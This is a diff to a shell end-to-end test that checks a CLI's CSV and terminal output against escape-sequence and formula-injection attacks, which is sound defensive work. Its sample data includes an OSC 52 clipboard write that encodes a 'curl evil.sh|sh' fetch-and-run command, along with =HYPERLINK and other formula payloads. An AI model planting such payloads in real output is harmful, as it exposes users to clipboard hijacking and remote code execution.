@@ -3,8 +3,8 @@
 # displayed string carries terminal attacks (OSC 52 clipboard writes, OSC 0
 # titles, CSI cursor moves and clears, DCS, C1 controls as UTF-8, CR and BS
 # overwrites, bidi overrides and isolates, zero-width characters).  Every
-# text output keeps them off the terminal; the CSV written to a file keeps
-# the exact bytes on purpose, quoted, with formulas neutralised; the review
+# text output keeps them off the terminal, the CSV export too, wherever it
+# is written (quoted, with formulas neutralised); the review
 # screens show them escaped and neither move, retitle nor write the
 # clipboard.
 . "$TOP_SRCDIR/tests/e2e/lib.sh"
@@ -323,26 +323,30 @@ expect_contains "CSV to a terminal: the reason escaped, neutralised" "$WORK/csv-
 	"\"'=HYPERLINK(\"\"http://evil.invalid\"\",\"\"x\"\") $SHOWN_A\""
 expect_contains "CSV to a terminal: a tab-led reason, neutralised and shown" "$WORK/csv-tty" "\"'^I$SHOWN_A\""
 
-# The CSV, to a file: the exact text by design, every cell quoted, every
-# formula trigger (= + - @ tab CR) neutralised with a leading '.
+# The CSV, to a file: escaped as on a terminal (a file is read through
+# a pager as often as not; the JSON export has the exact text), every cell
+# quoted, every formula trigger (= + - @ tab CR) neutralised with a '.
 cs audit export --csv >"$WORK/export.csv"
 expect_eq "CSV file: a header and six rows (no raw newline in the text)" \
 	"$(wc -l <"$WORK/export.csv" | tr -d ' ')" 7
-expect_eq "CSV file: it keeps the raw bytes (ESC, BEL, C1, U+202E, U+FEFF)" \
-	"$(LC_ALL=C grep -c -P '\x1b\]52;c;Y3VybCBldmlsLnNofHNo\x07.*\xc2\x9b31m.*\xe2\x80\xae.*\xef\xbb\xbf' "$WORK/export.csv")" 6
+expect_clean "CSV file: no raw control byte either" "$WORK/export.csv"
+cmp -s "$WORK/export.csv" "$WORK/csv-tty" 2>/dev/null ||
+	[ "$(tr -d '\r' <"$WORK/csv-tty")" = "$(cat "$WORK/export.csv")" ] &&
+	pass "CSV file: the same text as to a terminal" ||
+	fail "CSV file: not the same text as to a terminal"
 # csv_reason WHAT REASON: REASON is one cell of the file, exactly.
 csv_reason() {
-	expect_eq "CSV file: $1: the reason exact, quoted, neutralised" \
+	expect_eq "CSV file: $1: the reason escaped, quoted, neutralised" \
 		"$(LC_ALL=C grep -c -F -- ",\"$2\"," "$WORK/export.csv")" 1
 }
-csv_reason "=, with quotes doubled" "'=HYPERLINK(\"\"http://evil.invalid\"\",\"\"x\"\") $RAW_A"
-csv_reason "tab" "'$(printf '\t')$RAW_A"
-csv_reason "CR" "'$(printf '\r')$RAW_A"
-csv_reason "@" "'@SUM(1) $RAW_A"
-csv_reason "+" "'+1 $RAW_A"
-csv_reason "-" "'-1 $RAW_A"
-expect_eq "CSV file: the ids exact and quoted" \
-	"$(LC_ALL=C grep -c -F -- ",\"inj-trade-a1$RAW_S\"," "$WORK/export.csv")" 1
+csv_reason "=, with quotes doubled" "'=HYPERLINK(\"\"http://evil.invalid\"\",\"\"x\"\") $SHOWN_A"
+csv_reason "tab" "'^I$SHOWN_A"
+csv_reason "CR" "'^M$SHOWN_A"
+csv_reason "@" "'@SUM(1) $SHOWN_A"
+csv_reason "+" "'+1 $SHOWN_A"
+csv_reason "-" "'-1 $SHOWN_A"
+expect_eq "CSV file: the ids escaped and quoted" \
+	"$(LC_ALL=C grep -c -F -- ",\"inj-trade-a1$SHOWN_S\"," "$WORK/export.csv")" 1
 expect_eq "CSV file: no cell starts with a live formula trigger" \
 	"$(LC_ALL=C grep -c -P '(^|,)"[=+@\t\r-]' "$WORK/export.csv" || true)" 0
 # Each row read as RFC 4180: every cell opens with a quote, "" inside is
